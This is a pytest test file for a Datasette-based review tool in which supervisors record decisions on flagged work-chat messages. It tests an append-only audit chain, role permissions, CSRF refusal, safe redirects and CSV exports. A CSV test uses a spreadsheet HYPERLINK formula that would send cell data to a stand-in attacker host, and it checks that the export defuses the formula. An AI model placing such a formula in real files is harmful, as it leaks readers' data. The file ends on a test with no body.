"""Supervisors record decisions on a case page; every decision is attributed, chained and
kept; auditors can read it all and change nothing."""
import html
import re
import sqlite3
from datetime import date, timedelta
from urllib.parse import urlencode, urljoin

import pytest

from ingest.schema import CATEGORY_NAMES
from tests.review_helpers import HIDDEN, cookies_for, csrf, flag_as_chatter, form_fields, new_year_part_weeks, prepare


@pytest.fixture
async def ds(qunguan, db_path, fixtures):
    return prepare(qunguan, db_path, fixtures)


def first_flag(query):
    return query("select id from flags where message_id is not null order by id limit 1")[0]["id"]


async def decide(ds, flag_id, actor, **fields):
    """Open the case page and submit its form with `fields` filled in, as `actor`."""
    hidden, cookies = await form_fields(ds, f"/-/qunguan/flags/{flag_id}", cookies_for(ds, actor))
    return await ds.client.post(f"/-/qunguan/flags/{flag_id}", data={**hidden, **fields}, cookies=cookies)


async def test_a_supervisor_decision_is_one_handling_row_with_their_id(ds, query):
    flag_id = first_flag(query)
    response = await decide(ds, flag_id, "u-supervisor", status="confirmed", action="talked", note="已约谈本人",
                            due_date="2099-03-20", actor_id="someone-else")
    assert response.status_code == 302 and response.headers["location"] == f"/-/qunguan/flags/{flag_id}"
    rows = query("select flag_id, status, action, note, due_date, actor_id from handling")
    assert rows == [{"flag_id": flag_id, "status": "confirmed", "action": "talked", "note": "已约谈本人",
                     "due_date": "2099-03-20", "actor_id": "u-supervisor"}]  # never the form's actor_id
    assert query("select status from flag_state where flag_id = ?", [flag_id]) == [{"status": "confirmed"}]
    page = await ds.client.get(f"/-/qunguan/flags/{flag_id}", cookies=cookies_for(ds, "u-auditor"))
    assert "已约谈本人" in page.text and "u-supervisor" in page.text


async def test_the_confirmation_says_which_is_the_status_and_which_the_measure(ds, query):
    # "已记录：属实，无" read as "recorded: confirmed, nothing".
    flag_id = first_flag(query)
    hidden, cookies = await form_fields(ds, f"/-/qunguan/flags/{flag_id}", cookies_for(ds, "u-supervisor"))
    decided = await ds.client.post(f"/-/qunguan/flags/{flag_id}", data={**hidden, "status": "confirmed", "action": "none"},
                                   cookies=cookies)
    page = await ds.client.get(decided.headers["location"], cookies={**cookies, **decided.cookies})
    assert "已记录：属实（措施：无）" in page.text


async def test_a_decision_posted_from_a_stale_page_is_refused_in_chinese_and_not_recorded(ds, query):
    flag_id = first_flag(query)
    token, cookies = await csrf(ds, f"/-/qunguan/flags/{flag_id}", cookies_for(ds, "u-supervisor"))
    response = await ds.client.post(f"/-/qunguan/flags/{flag_id}", cookies=cookies,
                                    data={"csrftoken": token[::-1], "status": "confirmed", "action": "none"})
    assert response.status_code == 403 and "页面已过期" in response.text and "did not match" not in response.text
    assert query("select count(*) n from handling")[0]["n"] == 0


async def test_an_auditor_may_read_but_not_decide(ds, query):
    flag_id = first_flag(query)
    page = await ds.client.get(f"/-/qunguan/flags/{flag_id}", cookies=cookies_for(ds, "u-auditor"))
    assert page.status_code == 200 and 'name="status"' not in page.text
    token, cookies = await csrf(ds, "/-/qunguan/queue", cookies_for(ds, "u-auditor"))
    response = await ds.client.post(f"/-/qunguan/flags/{flag_id}", data={"csrftoken": token, "status": "dismissed",
                                                                         "action": "none"}, cookies=cookies)
    assert response.status_code == 403
    assert query("select count(*) n from handling")[0]["n"] == 0


@pytest.mark.parametrize("fields, message", [
    ({"status": "", "action": "none"}, "请选择处置状态"),
    ({"status": "resolved", "action": "refuted", "note": ""}, "辟谣请在备注中注明"),
    ({"status": "reviewing", "action": "none", "due_date": "3月20日"}, "YYYY-MM-DD"),
    # Forms Python's date parser also takes, which would be stored as typed.
    ({"status": "reviewing", "action": "none", "due_date": "20250320"}, "YYYY-MM-DD"),
    ({"status": "reviewing", "action": "none", "due_date": "2025-W12-4"}, "YYYY-MM-DD"),
    ({"status": "reviewing", "action": "none", "due_date": "0001-01-01"}, "YYYY-MM-DD"),
    # A false alarm with a measure taken against someone says two things at once.
    ({"status": "dismissed", "action": "removed"}, "标记为误报时不应采取处置措施（所选：移出群聊）"),
    ({"status": "dismissed", "action": "recalled"}, "标记为误报时不应采取处置措施（所选：要求撤回）"),
    ({"status": "confirmed", "action": "talked", "due_date": "2000-01-03"}, "办结期限不能早于今天"),
])
async def test_invalid_decisions_reshow_the_form_with_the_reason(ds, query, fields, message):
    response = await decide(ds, first_flag(query), "u-supervisor", **fields)
    assert response.status_code == 400 and message in response.text and 'name="status"' in response.text
    assert "未能记录：" in response.text.split("<h1>")[0]  # said at the top, not only beside the form below
    assert query("select count(*) n from handling")[0]["n"] == 0


@pytest.mark.parametrize("typed", ["2099/3/20", "2099年3月20日", "2099-3-20"])
async def test_a_due_date_typed_without_a_date_picker_is_stored_as_the_picker_writes_it(ds, query, typed):
    response = await decide(ds, first_flag(query), "u-supervisor", status="confirmed", action="talked", due_date=typed)
    assert response.status_code == 302
    assert query("select due_date from handling") == [{"due_date": "2099-03-20"}]


async def test_bulk_marks_selected_flags_with_one_note(ds, query):
    ids = [r["id"] for r in query("select id from flags order by id limit 3")]
    token, cookies = await csrf(ds, "/-/qunguan/queue", cookies_for(ds, "u-admin"))
    response = await ds.client.post("/-/qunguan/bulk", data={"csrftoken": token, "flag": [str(i) for i in ids],
                                                             "status": "dismissed", "note": "同一误报",
                                                             "back": "/-/qunguan/queue"}, cookies=cookies)
    assert response.status_code == 302
    rows = query("select flag_id, status, note, actor_id from handling order by id")
    assert [(r["flag_id"], r["status"], r["note"], r["actor_id"]) for r in rows] == [(i, "dismissed", "同一误报", "u-admin") for i in ids]
    queue = await ds.client.get("/-/qunguan/queue", cookies=cookies_for(ds, "u-admin"))
    assert all(f'/-/qunguan/flags/{i}"' not in queue.text for i in ids)  # no longer open


async def test_a_bulk_form_refused_comes_back_with_its_ticks_and_note(ds, query):
    ids = [r["id"] for r in query("select id from flags order by id limit 2")]
    hidden, cookies = await form_fields(ds, "/-/qunguan/queue?status=all", cookies_for(ds, "u-supervisor"))
    forgot = await ds.client.post("/-/qunguan/bulk", cookies=cookies,
                                  data={**hidden, "status": "dismissed", "note": "同为转发的通知"})
    assert forgot.status_code == 400 and "请先勾选要处置的标记" in forgot.text
    assert 'name="note" value="同为转发的通知"' in forgot.text
    assert 'name="back" value="/-/qunguan/queue?status=all"' in forgot.text  # the queue it came from
    too_long = await ds.client.post("/-/qunguan/bulk", cookies=cookies,
                                    data={**hidden, "flag": [str(i) for i in ids], "status": "dismissed", "note": "长" * 4001})
    assert too_long.status_code == 400 and "备注不能超过 4000 字" in too_long.text
    assert all(f'value="{i}" aria-label="选择标记 {i}" checked' in too_long.text for i in ids)
    assert query("select count(*) n from handling")[0]["n"] == 0
    # Sent again as it came back, corrected, it is recorded.
    kept = {name: html.unescape(value) for name, value in HIDDEN.findall(too_long.text)}
    again = await ds.client.post("/-/qunguan/bulk", cookies=cookies,
                                 data={**kept, "flag": [str(i) for i in ids], "status": "dismissed", "note": "重复"})
    assert again.status_code == 302 and again.headers["location"] == "/-/qunguan/queue?status=all"
    assert [r["flag_id"] for r in query("select flag_id from handling order by id")] == ids


async def test_the_note_boxes_stop_at_the_longest_note_kept_before_anything_is_sent(ds, query):
    # The server refuses a note over 4000 characters; the box stops there as it is typed,
    # so a supervisor does not write a long account only to have it sent back.
    flag_id = query("select id from flags order by id limit 1")[0]["id"]
    cookies = cookies_for(ds, "u-supervisor")
    case = await ds.client.get(f"/-/qunguan/flags/{flag_id}", cookies=cookies)
    assert '<textarea name="note" rows="4" cols="60" maxlength="4000">' in case.text
    queue = await ds.client.get("/-/qunguan/queue", cookies=cookies)
    assert 'name="note" value="" placeholder="备注（可选）" size="40" maxlength="4000"' in queue.text


async def test_a_refused_bulk_forms_queue_pages_on_through_the_queue(ds):
    # Sent from a later page of a filtered queue with nothing ticked: the queue comes back
    # at the bulk form's address, and its page links must still lead to the queue's pages.
    later = "/-/qunguan/queue?category=group_member_unverified&before=1:999999"
    hidden, cookies = await form_fields(ds, later, cookies_for(ds, "u-supervisor"))
    refused = await ds.client.post("/-/qunguan/bulk", cookies=cookies, data={**hidden, "status": "dismissed"})
    assert refused.status_code == 400
    first = html.unescape(re.search(r'<a href="([^"]+)">« 第一页', refused.text)[1])
    page = await ds.client.get(urljoin("/-/qunguan/bulk", first), cookies=cookies)
    assert page.status_code == 200 and '<option value="group_member_unverified" selected>' in page.text
    # The link names the queue itself, filters and all.
    assert first == "/-/qunguan/queue?category=group_member_unverified"


async def test_bulk_records_each_flag_once_and_only_flags_named_in_ascii_digits(ds, query):
    first, second = [r["id"] for r in query("select id from flags order by id limit 2")]
    token, cookies = await csrf(ds, "/-/qunguan/queue", cookies_for(ds, "u-supervisor"))
    # A flag ticked twice (a page reloaded mid-selection, a hand-made request), and one
    # named in Arabic-Indic digits, which the case page does not know either.
    response = await ds.client.post("/-/qunguan/bulk", cookies=cookies, data={
        "csrftoken": token, "flag": [str(first), str(first), str(first), "".join(chr(0x660 + int(d)) for d in str(second))],
        "status": "confirmed", "back": "/-/qunguan/queue"})
    assert response.status_code == 302
    assert query("select flag_id from handling") == [{"flag_id": first}]


async def test_a_bearer_header_does_not_stand_in_for_the_form_token(ds, query):
    # Datasette's CSRF check waves through requests carrying a bearer token; this site
    # has none, so the header must not open a way around the check.
    flag_id = first_flag(query)
    response = await ds.client.post(f"/-/qunguan/flags/{flag_id}", data={"status": "reviewing", "action": "none"},
                                    cookies=cookies_for(ds, "u-supervisor"), headers={"Authorization": "Bearer x"})
    assert response.status_code == 403
    assert query("select count(*) n from handling")[0]["n"] == 0


async def test_a_form_that_is_not_utf8_is_refused_not_a_server_error(ds, query):
    token, cookies = await csrf(ds, "/-/qunguan/queue", cookies_for(ds, "u-supervisor"))
    response = await ds.client.post("/-/qunguan/bulk", cookies=cookies, content=b"csrftoken=" + token.encode()
                                    + b"&status=dismissed&note=\xff\xfe&flag=1",
                                    headers={"content-type": "application/x-www-form-urlencoded"})
    assert response.status_code == 400 and "UTF-8" in response.text
    assert query("select count(*) n from handling")[0]["n"] == 0


@pytest.mark.parametrize("path", ["/-/qunguan/flags/{flag}?context=abc", "/-/qunguan/flags/{flag}?context=1e3",
                                  "/-/qunguan/queue?before=abc", "/-/qunguan/queue?before=1:2:3",
                                  "/-/qunguan/queue?before=99999999999999999999:1",
                                  "/-/qunguan/search?q=防火&before=99999999999999999999999"])
async def test_a_hand_edited_address_shows_the_page_with_defaults_not_an_error(ds, query, path):
    response = await ds.client.get(path.format(flag=first_flag(query)), cookies=cookies_for(ds, "u-supervisor"))
    assert response.status_code == 200


def test_a_decision_and_another_writer_appending_at_once_both_land_in_the_chain(ds, query, db_path, qunguan):
    # The web form and a CLI command (groups set --exempt closes flags) may record at the
    # same moment: the later one must wait and append after the other, not fail.
    import threading

    from review import handling

    first, second = [r["id"] for r in query("select id from flags order by id limit 2")]
    decision = handling.validate("reviewing", "none", "", None)
    other = sqlite3.connect(db_path, timeout=10)
    other.execute("begin immediate")  # the other writer is at work
    outcome = []
    web = threading.Thread(target=lambda: outcome.append(
        handling.record(sqlite3.connect(db_path, timeout=10), [first], decision, "u-supervisor")))
    web.start()
    web.join(0.5)  # let it read what it reads before taking the lock
    handling.record(other, [second], decision, "cli:admin")  # appends and commits
    web.join(10)
    assert outcome == [[2]]
    assert query("select id, flag_id, actor_id from handling order by id") == [
        {"id": 1, "flag_id": second, "actor_id": "cli:admin"}, {"id": 2, "flag_id": first, "actor_id": "u-supervisor"}]
    assert qunguan("verify", "--db", db_path).exit_code == 0


async def test_a_case_opened_from_a_filtered_queue_leads_back_to_it_after_a_decision(ds, query):
    flag_id = first_flag(query)
    category = query("select category from flags where id = ?", [flag_id])[0]["category"]
    cookies = cookies_for(ds, "u-supervisor")
    queue_page = await ds.client.get(f"/-/qunguan/queue?category={category}", cookies=cookies)
    link = f"/-/qunguan/flags/{flag_id}?back=%2F-%2Fqunguan%2Fqueue%3Fcategory%3D{category}"
    assert link in queue_page.text
    token, cookies = await csrf(ds, link, cookies)
    decided = await ds.client.post(link, data={"csrftoken": token, "status": "reviewing", "action": "none"}, cookies=cookies)
    assert decided.status_code == 302 and decided.headers["location"] == link
    case = await ds.client.get(link, cookies=cookies)
    assert f'href="/-/qunguan/queue?category={category}">« 返回审核队列' in case.text
    # Only this site's queue and search pages are followed back.
    away = await ds.client.get(f"/-/qunguan/flags/{flag_id}?back=https://example.com/", cookies=cookies)
    assert 'href="/-/qunguan/queue">« 返回审核队列' in away.text


async def test_a_case_opened_from_the_queue_leads_on_to_the_next_flag_there(ds, query):
    cookies = cookies_for(ds, "u-supervisor")
    queue_page = await ds.client.get("/-/qunguan/queue?status=all&category=group_member_unverified", cookies=cookies)
    keep = urlencode({"back": "/-/qunguan/queue?status=all&category=group_member_unverified"})
    members = [r["id"] for r in query("select id from flags where category = 'group_member_unverified' "
                                      "order by severity desc, id desc")]
    assert len(members) > 1 and f"/-/qunguan/flags/{members[0]}?{keep}" in queue_page.text
    case = await ds.client.get(f"/-/qunguan/flags/{members[0]}?{keep}", cookies=cookies)
    assert f'<a href="/-/qunguan/flags/{members[1]}?{keep}">下一条 »</a>' in case.text
    # Decided on and gone from a queue of undecided flags, it still leads on from where it stood.
    await decide(ds, members[0], "u-supervisor", status="dismissed", action="none")
    undecided = urlencode({"back": "/-/qunguan/queue?status=new&category=group_member_unverified"})
    case = await ds.client.get(f"/-/qunguan/flags/{members[0]}?{undecided}", cookies=cookies)
    assert f'<a href="/-/qunguan/flags/{members[1]}?{undecided}">下一条 »</a>' in case.text
    end = await ds.client.get(f"/-/qunguan/flags/{members[-1]}?{keep}", cookies=cookies)
    assert "下一条" not in end.text  # the last of its category, whatever flags follow it in the whole queue


async def test_another_flag_on_the_message_leads_back_to_the_same_filtered_queue(ds, query, db_path):
    flag = query("select id, category, message_id, group_id from flags where message_id is not null "
                 "and category != 'offtopic' order by id limit 1")[0]
    conn = sqlite3.connect(db_path)
    flag_as_chatter(conn, [{"id": flag["message_id"], "group_id": flag["group_id"]}])
    conn.close()
    other = query("select max(id) as id from flags")[0]["id"]
    keep = urlencode({"back": f"/-/qunguan/queue?category={flag['category']}"})
    case = await ds.client.get(f"/-/qunguan/flags/{flag['id']}?{keep}", cookies=cookies_for(ds, "u-supervisor"))
    assert f'href="/-/qunguan/flags/{other}?{keep}"' in case.text


async def test_handling_is_append_only_and_verify_finds_an_edited_row(ds, qunguan, query, db_path):
    flag_id = first_flag(query)
    await decide(ds, flag_id, "u-supervisor", status="reviewing", action="none")
    await decide(ds, flag_id, "u-supervisor", status="resolved", action="reminded", note="已提醒")
    con = sqlite3.connect(db_path)
    for sql in ("update handling set note = 'x'", "delete from handling"):
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            con.execute(sql)
    assert qunguan("verify", "--db", db_path).exit_code == 0
    con.executescript("drop trigger handling_no_update; update handling set actor_id = 'u-admin' where id = 1;")
    con.close()
    result = qunguan("verify", "--db", db_path)
    assert result.exit_code == 1 and re.search(r"^handling\t2 rows\thead \w+\tchain broken at id 1$", result.stdout, re.M)


def verified(qunguan, db_path) -> dict[str, str]:
    """`qunguan verify`'s lines by what they check (the first line of each)."""
    result = qunguan("verify", "--db", db_path)
    lines = {}
    for line in result.stdout.splitlines():
        subject, _, rest = line.partition("\t")
        lines.setdefault(subject, rest)
    return {**lines, "exit": str(result.exit_code)}


async def test_verify_finds_a_forged_status_a_cut_tail_and_decisions_on_missing_flags(ds, qunguan, query, db_path,
                                                                                     tmp_path):
    flags = [r["id"] for r in query("select id from flags order by id limit 3")]
    for flag_id in flags:
        await decide(ds, flag_id, "u-supervisor", status="confirmed", action="reminded", note="已提醒")
    before = verified(qunguan, db_path)
    assert before["exit"] == "0" and before["handling"].startswith("3 rows\thead ")
    assert before["flag_state"] == "agrees with the handling trail"
    # The queue and the reports read flag_state: a status written there is not a decision.
    con = sqlite3.connect(db_path)
    con.execute("update flag_state set status = 'resolved' where flag_id = ?", [flags[0]])
    con.commit()
    forged = verified(qunguan, db_path)
    assert forged["exit"] == "1" and forged["flag_state"] == f"differs from the handling trail for 1 flags: {flags[0]}"
    # The last decision cut off: the chain holds, but is one row short, its head another.
    con.executescript("drop trigger handling_no_delete; delete from handling where id = 3; "
                      f"update flag_state set status = 'confirmed' where flag_id = {flags[0]};")
    cut = verified(qunguan, db_path)
    assert cut["handling"].startswith("2 rows\thead ") and cut["handling"] != before["handling"]
    assert "handling_no_delete" in cut["triggers"]
    assert cut["flag_state"] == f"differs from the handling trail for 1 flags: {flags[2]}"  # its decision is gone
    # A row deleted in the middle is named, and a flag deleted under its decisions is found.
    con.executescript(f"delete from handling where id = 1; delete from flags where id = {flags[1]};")
    con.close()
    broken = verified(qunguan, db_path)
    assert broken["handling"].endswith("chain broken at id 2 (id 1 missing)")
    assert f"decisions on flags that are not in flags: {flags[1]}" in qunguan("verify", "--db", db_path).stdout


async def test_queue_shows_evidence_filters_and_pages(ds, query):
    cookies = cookies_for(ds, "u-supervisor")
    page = await ds.client.get("/-/qunguan/queue", cookies=cookies)
    assert page.status_code == 200 and "审核队列" in page.text and "<mark>" in page.text
    only = await ds.client.get("/-/qunguan/queue?category=red_packet", cookies=cookies)
    assert "红包/转账（微腐败）" in only.text and "群规 第十二条" in only.text
    assert "拍马奉承" not in only.text.split("<tbody>")[1]
    first = await ds.client.get("/-/qunguan/queue?status=all", cookies=cookies)
    assert first.status_code == 200


async def test_a_weeks_chatter_flag_is_listed_under_the_week_the_date_filter_finds_it_in(ds, qunguan, query, db_path):
    from ingest.records import local_now

    # The model took two of 防火群's replies for chatter: the week's share passes 第十二条's line.
    conn = sqlite3.connect(db_path)
    flag_as_chatter(conn, query("select id, group_id from messages where text = '收到'"))
    conn.close()
    qunguan("config", "set", "group.weekly_min_messages", "1", "--db", db_path)
    qunguan("classify", "--db", db_path, "--silent")
    cookies = cookies_for(ds, "u-supervisor")
    week = await ds.client.get("/-/qunguan/queue?category=group_chatter_share&since=2025-03-03&until=2025-03-09",
                               cookies=cookies)
    # Shown on the week's first day, not on the day classify found it: the filter found it there.
    assert "聊天群/夸夸群倾向 1" in week.text and "<td>2025-03-03 00:00</td>" in week.text
    today = local_now().date().isoformat()
    found_today = await ds.client.get(f"/-/qunguan/queue?category=group_chatter_share&since={today}&until={today}",
                                      cookies=cookies)
    assert "没有符合条件的标记" in found_today.text
    # A message's flag keeps its message's time.
    red_packet = await ds.client.get("/-/qunguan/queue?category=red_packet", cookies=cookies)
    sent = query("select m.sent_at from flags f join messages m on m.id = f.message_id where f.category = 'red_packet'")
    assert f"<td>{sent[0]['sent_at'][:16].replace('T', ' ')}</td>" in red_packet.text


async def test_case_page_shows_the_conversation_around_the_message(ds, query):
    flag = query("select f.id, m.text from flags f join messages m on m.id = f.message_id "
                 "where f.category = 'red_packet'")[0]
    page = await ds.client.get(f"/-/qunguan/flags/{flag['id']}", cookies=cookies_for(ds, "u-supervisor"))
    assert "上下文" in page.text and "收到，马上安排" in page.text  # a message before it
    assert "谁有抢红包的截图" in page.text  # a message after it
    assert 'class="qg-this"' in page.text


async def test_a_case_page_shows_the_demand_a_chaser_chases_and_the_first_post_a_repeat_repeats(ds, query, db_path):
    # The demand (or first post) far from both, so what the page shows of it is not their context.
    chaser, repeat = [row["id"] for row in query("select id from messages where kind = 'text' order by id limit 2")]
    [demand] = query("select id, text from messages where kind = 'text' order by id desc limit 1")
    demand, text = demand["id"], demand["text"]
    conn = sqlite3.connect(db_path)
    with conn:
        for message_id, category in ((chaser, "proof_demand"), (repeat, "repeated_post")):
            conn.execute("delete from flags where message_id = ? and category = ?", [message_id, category])
            conn.execute("insert into flags (subject, message_id, group_id, category, score, detector, article, evidence, "
                         "related_message_id, created_at) values (?, ?, 1, ?, 0.8, 'test', '群规 第九条', '…', ?, "
                         "'2025-01-01T00:00:00')", [f"message:{message_id}", message_id, category, demand])
    flags = {row["category"]: row["id"] for row in query(
        "select id, category from flags where message_id in (?, ?) and related_message_id is not null", [chaser, repeat])}
    chasing = await ds.client.get(f"/-/qunguan/flags/{flags['proof_demand']}", cookies=cookies_for(ds, "u-supervisor"))
    assert "<h2>所催交的留痕要求</h2>" in chasing.text and html.escape(text) in chasing.text
    repeating = await ds.client.get(f"/-/qunguan/flags/{flags['repeated_post']}", cookies=cookies_for(ds, "u-supervisor"))
    assert "<h2>首次出现</h2>" in repeating.text and html.escape(text) in repeating.text


async def test_more_context_is_offered_only_while_the_group_has_more(ds, query):
    flag = query("select f.id, m.id as message_id from flags f join messages m on m.id = f.message_id "
                 "where f.category = 'red_packet'")[0]
    # The messages of its group on its longer side: a page with that many on each side holds them all.
    longest = max(query(f"select (select count(*) from messages o where o.group_id = m.group_id "
                        f"and (o.sent_at, o.id) {side} (m.sent_at, m.id)) n from messages m where m.id = ?",
                        [flag["message_id"]])[0]["n"] for side in "<>")
    cookies = cookies_for(ds, "u-supervisor")
    # The whole of this small group is on the page already: a link that loads nothing more misleads.
    whole = await ds.client.get(f"/-/qunguan/flags/{flag['id']}", cookies=cookies)
    assert "加载更多上下文" not in whole.text
    exactly = await ds.client.get(f"/-/qunguan/flags/{flag['id']}?context={longest}", cookies=cookies)
    assert "加载更多上下文" not in exactly.text
    assert longest > 2  # one less is a context the page takes as it is
    part = await ds.client.get(f"/-/qunguan/flags/{flag['id']}?context={longest - 1}", cookies=cookies)
    assert f'href="?context={longest + 19}#context">加载更多上下文' in part.text
    widest = await ds.client.get(f"/-/qunguan/flags/{flag['id']}?context=500", cookies=cookies)
    assert "前后各 200 条" in widest.text and "加载更多上下文" not in widest.text  # capped


async def test_more_context_stops_at_the_200_messages_a_page_shows(ds, qunguan, query, db_path, tmp_path):
    from classifiers.classify import insert_flags

    # A busy group: 230 messages after the one flagged, more than a page shows on a side.
    chat = tmp_path / "busy.txt"
    chat.write_text("\n".join(f"宜丰县-罗琴 2025-04-01 {8 + i // 60:02d}:{i % 60:02d}\n第{i}条消息\n" for i in range(231)),
                    encoding="utf-8")
    qunguan("ingest", chat, "--db", db_path, "--group", "大群", "--silent")
    first = query("select m.id, m.group_id from messages m join groups g on g.id = m.group_id "
                  "where g.name = '大群' order by m.sent_at limit 1")[0]
    conn = sqlite3.connect(db_path)
    with conn:
        insert_flags(conn, [{"subject": f"message:{first['id']}", "message_id": first["id"], "group_id": first["group_id"],
                             "category": "red_packet", "score": 1.0, "detector": "test", "article": "群规 第十二条",
                             "evidence": "x"}])
    conn.close()
    flag_id = query("select id from flags where detector = 'test'")[0]["id"]
    cookies = cookies_for(ds, "u-supervisor")
    wide = await ds.client.get(f"/-/qunguan/flags/{flag_id}?context=199", cookies=cookies)
    assert 'href="?context=219#context">加载更多上下文' in wide.text
    widest = await ds.client.get(f"/-/qunguan/flags/{flag_id}?context=200", cookies=cookies)
    assert "前后各 200 条" in widest.text and "第200条消息" in widest.text and "第201条消息" not in widest.text
    assert "加载更多上下文" not in widest.text  # the same 200 again is all it could load


async def test_dashboard_draws_charts_without_any_external_script(ds):
    page = await ds.client.get("/-/qunguan/dashboard", cookies=cookies_for(ds, "u-auditor"))
    assert page.status_code == 200 and "<svg" in page.text and "待处置" in page.text
    # Nothing loaded from elsewhere (a CDN's chart library): the page's form tokens are random
    # text, which once held "cdn" when this looked for the word.
    assert re.findall(r'<(?:script|link|img|iframe)\b[^>]*\b(?:src|href)="(?:https?:)?//', page.text) == []


async def test_queue_counts_follow_every_decision(ds, query):
    from review.queue import queue
    from ingest.schema import open_archive

    conn = open_archive(str(ds.get_database().path)).conn
    before = queue(conn, {}).counts
    by_hand = {r["category"]: r["n"] for r in query("select category, count(*) n from flags group by category")}
    assert before == dict(sorted(by_hand.items(), key=lambda kv: -kv[1]))
    flag = query("select id, category from flags order by id limit 1")[0]
    await decide(ds, flag["id"], "u-supervisor", status="reviewing", action="none")
    assert queue(conn, {}).counts == before  # still open (未办结)
    # 待核查 is what nobody has taken up: no longer this one.
    assert queue(conn, {"status": "new"}).counts.get(flag["category"], 0) == before[flag["category"]] - 1
    group = query("select g.name from flags f join groups g on g.id = f.group_id where f.id = ?", [flag["id"]])[0]["name"]
    in_group = queue(conn, {"status": "open", "group": group}).counts  # counted the other way, with a filter
    assert queue(conn, {"status": "new", "group": group}).counts.get(flag["category"], 0) == \
        in_group[flag["category"]] - 1
    assert queue(conn, {"status": "bogus"}).counts == before  # an edited address falls back to the default
    page = await ds.client.get("/-/qunguan/queue", cookies=cookies_for(ds, "u-supervisor"))
    assert "未办结（待核查、核查中、属实、已上报）" in page.text and 'value="new"' in page.text
    await decide(ds, flag["id"], "u-supervisor", status="dismissed", action="none")
    after = queue(conn, {}).counts
    assert after.get(flag["category"], 0) == before[flag["category"]] - 1
    assert queue(conn, {"status": "dismissed"}).counts == {flag["category"]: 1}
    assert sum(queue(conn, {"status": "all"}).counts.values()) == sum(by_hand.values())


async def test_auditors_canned_queries_name_categories_and_statuses_in_chinese(ds, query, db_path):
    cookies = cookies_for(ds, "u-auditor")
    rows = (await ds.client.get("/archive/group_hygiene.json?_shape=array", cookies=cookies)).json()
    assert rows and {r["问题"] for r in rows} <= set(CATEGORY_NAMES.values()) and {r["状态"] for r in rows} == {"待核查"}
    # 3 days in the archive's own (Beijing) time, at any hour of the server's clock: a flag
    # raised 3 days and an hour ago is overdue (the server's UTC would say 3 days less 7 hours).
    with sqlite3.connect(db_path) as con:
        con.execute("update flags set created_at = strftime('%Y-%m-%dT%H:%M:%S', 'now', '+8 hours', '-3 days', '-1 hours') where id = 1")
        con.execute("update flags set created_at = strftime('%Y-%m-%dT%H:%M:%S', 'now', '+8 hours', '-2 hours') where id = 2")
    stale = (await ds.client.get("/archive/stale_open_flags.json?_shape=array", cookies=cookies)).json()
    assert [r["标记"] for r in stale] == [1] and stale[0]["类别"] in CATEGORY_NAMES.values()


async def test_a_csv_export_downloads_as_a_file_chinese_excel_reads(ds):
    response = await ds.client.get("/archive/group_hygiene.csv?_size=max", cookies=cookies_for(ds, "u-auditor"))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.content.startswith("\ufeff".encode()) and "群,单位,问题" in response.content.decode("utf-8-sig")


async def test_csv_exports_hand_excel_no_formulas(ds, query, db_path):
    # A note or a chat message that starts like a formula would run in the auditor's Excel.
    import csv
    import io

    flag_id = first_flag(query)
    link = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    assert (await decide(ds, flag_id, "u-supervisor", status="confirmed", action="other", note=link)).status_code == 302
    texts = {2: "@所有人 收到", 3: "+1", 4: "-这是减号开头", 5: "\t=1+1", 6: "-5"}
    with sqlite3.connect(db_path) as con:
        con.executemany("update messages set text = ? where id = ?", [(t, i) for i, t in texts.items()])
    cookies = cookies_for(ds, "u-auditor")

    def table(response):
        assert response.status_code == 200 and response.content.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        return [dict(zip(rows[0], row)) for row in rows[1:]]

    trail = table(await ds.client.get("/archive/handling.csv", cookies=cookies))
    assert [row["note"] for row in trail] == ["'" + link]
    chat = table(await ds.client.get("/archive/messages.csv?_stream=on&_size=2", cookies=cookies))
    shown = {int(row["id"]): row["text"] for row in chat}
    assert {i: shown[i] for i in texts} == {2: "'@所有人 收到", 3: "'+1", 4: "'-这是减号开头", 5: "'\t=1+1", 6: "-5"}
    assert shown[1] == query("select text from messages where id = 1")[0]["text"]  # the rest as they are


@pytest.mark.parametrize("path", ["/archive/messages.csv?_stream=on&_size=2", "/archive/handling_trail.csv",
                                  "/archive.csv?sql=select+'a<b%26c'+as+x", "/archive.csv?sql=select+'红包'+as+x",
                                  "/archive/messages.csv?text__contains=%E4%BC%9A%E8%AE%AE&_size=2"])
async def test_a_csv_asked_with_trace_is_the_same_file(ds, path):
    # Datasette made it a debugging page, whatever its trace_debug setting: the file wrapped
    # in HTML, every < and & in the chat written as &lt; and &amp;.
    cookies = cookies_for(ds, "u-auditor")
    plain = await ds.client.get(path, cookies=cookies)
    for trace in ("_trace=1", "%5Ftrace=1"):
        traced = await ds.client.get(f"{path}{'&' if '?' in path else '?'}{trace}", cookies=cookies)
        assert traced.status_code == plain.status_code == 200 and traced.content == plain.content


async def test_a_whole_tables_csv_is_not_cut_short(ds):
    # Datasette stops a CSV at 100 MB and writes "CSV contains more than … bytes" as its last
    # line, with 200: a full export of a year's messages would end there, cut, in English.
    settings = await ds.client.get("/-/settings.json", cookies=cookies_for(ds, "u-admin"))
    assert settings.json()["max_csv_mb"] == 0  # no limit


def test_a_csv_rewritten_piece_by_piece_is_the_csv_rewritten_whole():
    from review.csv_excel import ExcelCells

    body = 'id,text\r\n1,"第一行\r\n=第二行, ""引号"""\r\n2,@所有人\r\n'.encode()
    whole = ExcelCells().feed(body, last=True)
    assert whole.decode("utf-8-sig") == 'id,text\r\n1,"第一行\r\n=第二行, ""引号"""\r\n2,\'@所有人\r\n'
    for cut in range(1, len(body)):
        cells = ExcelCells()
        assert cells.feed(body[:cut], last=False) + cells.feed(body[cut:], last=True) == whole


def test_the_weekly_chart_tells_every_category_apart():
    from review.charts import weekly_svg

    categories = list(CATEGORY_NAMES)  # more than any palette holds
    svg = weekly_svg([("2025-03-03", c, 1) for c in categories])
    legend = re.findall(r'<rect x="\d+" y="(-?[\d.]+)" width="10" height="10" fill="([^"]+)"/>', svg)
    assert len(legend) == len(categories) == len({colour for _, colour in legend})
    # The chart is as tall as its legend: the last categories were drawn below its bottom edge.
    height = float(re.search(r'<svg [^>]*height="(\d+)"', svg).group(1))
    assert max(float(y) for y, _ in legend) + 10 <= height


def weeks_from(monday: date, n: int) -> list[str]:
    return [(monday + timedelta(weeks=i)).isoformat() for i in range(n)]


@pytest.mark.parametrize("weeks", [5, 38, 60])
def test_the_weekly_chart_keeps_the_latest_weeks_in_sight(weeks):
